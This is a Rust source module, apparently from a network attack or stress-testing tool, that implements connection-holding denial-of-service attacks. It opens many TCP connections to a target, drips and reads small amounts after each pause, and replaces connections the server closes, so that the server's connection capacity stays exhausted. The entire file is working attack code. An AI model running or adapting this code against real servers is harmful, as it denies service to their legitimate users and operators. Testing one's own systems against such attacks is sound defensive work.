//! Attacks that hold many connections open and hardly use them.

use std::io::{self, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::thread;
use std::time::Duration;

use rustix::event::{PollFd, PollFlags, poll};
use rustix::time::Timespec;

use super::link::{Against, open};

/// The use of the connections.
#[derive(Clone, Debug)]
pub struct Hold {
    /// Connections at a time; one that the server ends is replaced.
    pub connections: usize,
    /// Bytes to send first, as far as the socket accepts them at once.
    pub opening: Vec<u8>,
    /// Bytes to send after each pause; may be empty.
    pub drip: &'static [u8],
    /// Bytes to read after each pause.
    pub sip: usize,
    /// The receive buffer of each connection; `None` leaves it to the kernel.
    pub buffer: Option<usize>,
    /// The time between two uses.
    pub pause: Duration,
}

impl Hold {
    /// Holds connections to this address until the attack is over.
    pub fn run(&self, against: &Against<'_>, address: SocketAddr) {
        let mut streams: Vec<TcpStream> = Vec::with_capacity(self.connections);
        while against.tally.goes_on() {
            // Drop the connections that the server has ended; the loop below replaces them.
            streams.retain(|stream| {
                let kept = self.use_a_little(stream, against).is_ok();
                against.tally.ended.add(usize::from(!kept));
                kept
            });
            while streams.len() < self.connections && against.tally.goes_on() {
                match self.begin(against, address) {
                    Ok(stream) => streams.push(stream),
                    // Refused: wait for the next turn instead of trying again at once.
                    Err(_) => {
                        against.tally.ended.add(1);
                        break;
                    }
                }
            }
            thread::sleep(self.pause);
        }
    }

    fn begin(&self, against: &Against<'_>, address: SocketAddr) -> io::Result<TcpStream> {
        let mut stream = open(address, self.buffer)?;
        against.tally.units.add(1);
        if !self.opening.is_empty() {
            against
                .tally
                .bytes
                .add(unless_blocked(stream.write(&self.opening))?);
        }
        Ok(stream)
    }

    /// Sends and reads a little on a connection.
    ///
    /// # Errors
    /// The server has ended the connection.
    fn use_a_little(&self, mut stream: &TcpStream, against: &Against<'_>) -> io::Result<()> {
        // A closed connection shows without reading, which would open the window.
        let mut fds = [PollFd::new(stream, PollFlags::RDHUP)];
        if poll(&mut fds, Some(&Timespec::default()))? > 0 {
            return Err(io::ErrorKind::ConnectionAborted.into());
        }
        if !self.drip.is_empty() {
            against
                .tally
                .bytes
                .add(unless_blocked(stream.write(self.drip))?);
        }
        if self.sip > 0 {
            unless_blocked(stream.read(&mut vec![0; self.sip]))?;
        }
        Ok(())
    }
}

/// Counts an operation that would block as one of 0 bytes.
fn unless_blocked(result: io::Result<usize>) -> io::Result<usize> {
    match result {
        Err(error) if error.kind() == io::ErrorKind::WouldBlock => Ok(0),
        result => result,
    }
}
